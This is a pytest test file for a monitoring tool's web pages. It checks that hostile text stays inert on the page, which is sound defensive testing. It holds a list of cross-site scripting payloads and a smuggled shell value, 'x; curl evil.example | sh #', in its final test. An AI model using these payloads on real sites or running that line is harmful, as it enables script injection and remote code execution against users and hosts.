"""Whatever a source, a policy or a config says is shown as text: it makes no element, no attribute, no script."""

from __future__ import annotations

import json
import shlex
from collections.abc import Set
from dataclasses import dataclass, field, replace
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.clock import Leg
from monitor.clock.reading import Crossing
from monitor.explain import (
    Acknowledgement,
    AlertChange,
    AlertRecord,
    ChannelAnswer,
    Explanation,
    PersonCalled,
    WithheldPage,
)
from monitor.explain.explanation import CauseKind, ClockExplanation, LaidOut, TermsChange, Unread
from monitor.history import TIME, Doubt
from monitor.model import AgreementKind, Name, SubjectKey
from monitor.policy import StartedBy
from monitor.text import visible
from monitor.worktime import Calendar
from tests.exporters.web.explained import explained
from tests.support import snapshots

ATTACKS = (
    "<script>document.title='owned'</script>",
    "\"><img src=x onerror=document.title='owned'>",
    "' onmouseover='document.title=1",
    "</title></style></textarea><svg/onload=document.title='owned'>",
    "javascript:document.title='owned'",
    "{{ 7 * 7 }}{% raw %}<b>",
    "<!--",
    "&lt;script&gt;&#x3c;b&#62;",
    "‮gpj.exe\x00\x1b[2J",
    "https://evil.example/\"><script>document.title='owned'</script>",
)
OURS = {
    "a", "article", "aside", "b", "bdi", "body", "br", "code", "dd", "div", "dl", "dt", "footer", "h1", "h2", "head",
    "header", "html", "li", "link", "main", "meta", "noscript", "p", "script", "section", "small", "span", "table",
    "tbody", "td", "th", "thead", "time", "title", "tr", "ul", "svg", "rect", "path", "circle", "nav", "template",
    "pre", "line", "text", "details", "summary", "ol",
}  # fmt: skip


@dataclass
class Page(HTMLParser):
    """What a browser would make of the page."""

    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


FORM = {"form", "label", "select", "option", "input", "button"}
"""Elements of the pages that have a form, and of no other."""


def assert_harmless(html: str, more: Set[str] = frozenset()) -> None:
    page = read(html)
    assert {tag for tag, _ in page.elements} <= OURS | more
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc", "formaction")]
        if tag == "script":
            assert attributes in ({"src": f"{base}static/page.js", "defer": None} for base in ("./", "../../"))
        link = attributes.get("href", "./") or ""
        assert link.startswith(("./", "../", "https://", "?")), link
        if link.startswith("https://"):
            assert attributes["rel"] == "noreferrer noopener"


def hostile(text: str) -> Explanation:
    """An explanation with *text* in every field that is free."""
    whole = explained(corrected=True)
    name = Name(text, text)
    subject = replace(
        whole.subject,
        key=SubjectKey(text, text),
        status=text,
        attributes=dict.fromkeys(whole.subject.attributes, text),
    )
    doubts = [Doubt(text, text, text), Doubt(text, "status", text), Doubt(text, TIME, text)]
    at = whole.at
    alert = AlertRecord(
        labels={}, target=text, cycle=1, stage=text, starts_at=at, resolved_at=at, reason=text,
        answers=[ChannelAnswer(text, None, 1, text), ChannelAnswer(text, None, 0, text, at, text, text)],
        withheld=[WithheldPage(text, at, text, text)],
        acknowledged=[Acknowledgement(at, text, text, text)],
        changes=[AlertChange(at, text, True)],
        called=[PersonCalled(at, 1, text, text, text), PersonCalled(at, 0, text, text, "share")],
    )  # fmt: skip
    return replace(
        whole,
        subject=subject,
        policy=text,
        clocks=[hostile_clock(clock, text, name) for clock in whole.clocks],
        corrections=[
            replace(one, event=text, correction=replace(one.correction, author=text, reason=text, target=text))
            for one in whole.corrections
        ],
        corrected=[replace(one, target=text) for one in whole.corrected],
        doubts=doubts,
        unread=[Unread(doubt, text) for doubt in doubts],
        alerts=[alert],
        unsent=[one._replace(target=text, stage=text, why=text) for one in whole.unsent],
    )


def hostile_clock(clock: ClockExplanation, text: str, name: Name) -> ClockExplanation:
    at = clock.reading.started_at
    target = replace(clock.target, name=text, figure=text, policy_version=text)
    change = TermsChange(at, text, timedelta(1), timedelta(2), text, text)
    reading = replace(
        clock.reading, target=target, tier=text, assurance=text, crossings=(Crossing(text, at),),
        legs=(Leg(AgreementKind.UC, text, timedelta(2), timedelta(1)),),
    )  # fmt: skip
    laid_out = [
        LaidOut(replace(one.stretch, reason=text, approved_by=text, provisional=True), text)
        for part in clock.intervals
        for one in part.stretches
    ]
    return replace(
        clock,
        reading=reading,
        title=name,
        row=None if clock.row is None else replace(clock.row, when={text: frozenset({text})}),
        calendar=Calendar(text, text, "Asia/Tokyo", always=True),  # a zone is checked when it is read, and no free text
        hours=text,
        started_by=StartedBy(text, timedelta(1)),
        intervals=[
            part._replace(
                because=text, status=text, reason=text, reason_name=name, excluded=False,
                cause=CauseKind.STATUS, stretches=laid_out, changes=[change],
            )
            for part in clock.intervals
        ],
        deadlines=[one._replace(because=text) for one in clock.deadlines],
    )  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_text_on_the_page(site: Any, attack: str) -> None:
    site.snapshot = snapshots.hostile(attack)
    for path in ("/", "/page"):
        answer = site.get(path)
        assert answer.status_code == 200
        assert_harmless(answer.text)
    assert visible(attack) in "".join(read(site.get("/page").text).text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_text_in_an_explanation(site: Any, attack: str) -> None:
    site.said = hostile(attack)
    answer = site.get("/explain/corp/x")
    assert answer.status_code == 200
    assert_harmless(answer.text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_text_in_what_is_refused(site: Any, attack: str) -> None:
    answer = site.get(f"/explain/{quote(attack, safe='')}/{quote(attack, safe='')}")
    assert answer.status_code == 404
    assert_harmless(answer.text)


@given(st.text(st.characters(exclude_categories=()), min_size=1, max_size=20))
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_any_text_at_all_can_be_shown(site: Any, text: str) -> None:
    site.snapshot, site.said = snapshots.hostile(text), hostile(text)
    for path in ("/", "/metrics", "/explain/a/b", "/explain/a/b?format=json"):
        assert site.get(path).status_code == 200
    json.loads(site.get("/explain/a/b?format=json").content)


LONG = (
    "x" * 10_000,
    "/srv/" + "folder/" * 1400 + "end",
    "<b>" * 3300,
    "\u202e\u05d0" * 5000,
    "INC\x00" * 2500,
    "\u5355" * 10_000,
)


def addresses(page: Page) -> set[str]:
    """What links and forms hold, which is whole."""
    return {attributes.get(name) or "" for _, attributes in page.elements for name in ("href", "action", "value")}


@pytest.mark.parametrize("text", LONG)
def test_long_ids_and_paths_are_cut_wherever_they_are_shown(site: Any, text: str) -> None:
    site.snapshot, site.said = snapshots.hostile(text), hostile(text)
    for path in ("/", "/page", "/explain/corp/x"):
        page = read(site.get(path).text)
        assert any("\u2026" in part for part in page.text), "something was cut"
        assert not [part[:200] + part[-100:] for part in page.text if len(part) > 2500], path
        held = addresses(page)
        assert not [
            value
            for _, attributes in page.elements
            for value in attributes.values()
            if value and len(value) > 2500 and value not in held
        ]
        for part in page.text:
            assert not set(part) & set("\x00\u202e")


@pytest.mark.parametrize("text", LONG)
def test_what_is_cut_on_the_page_leads_to_the_whole_and_json_has_it(site: Any, text: str) -> None:
    site.snapshot, site.said = snapshots.hostile(text), hostile(text)
    row = next(link for link in addresses(read(site.get("/page").text)) if "explain/" in link)
    source, _, subject = row.partition("explain/")[2].partition("/")
    assert (unquote(source), unquote(subject)) == (text, text)
    assert json.loads(site.get("/explain/corp/x?format=json").content)["subject"] == text


@pytest.mark.parametrize("text", ["x" * 10_000, "\u202e<b>" * 800])
def test_a_long_address_that_leads_nowhere_is_answered_shortly(site: Any, text: str) -> None:
    answer = site.get(f"/explain/{quote(text, safe='')}/{quote(text, safe='')}")
    assert answer.status_code == 404
    assert len(answer.text) < 6000
    assert_harmless(answer.text)


def test_a_command_to_copy_holds_a_hostile_id_as_one_argument(site: Any) -> None:
    whole = explained()
    text = "x; curl evil.example | sh #"
    site.said = replace(whole, subject=replace(whole.subject, key=SubjectKey("corp", text)))
    page = "".join(read(site.get("/explain/corp/x").text).text)
    command = page[page.index("tierwatch retire") :].splitlines()[0]
    assert shlex.split(command)[:3] == ["tierwatch", "retire", f"corp/{text}"]
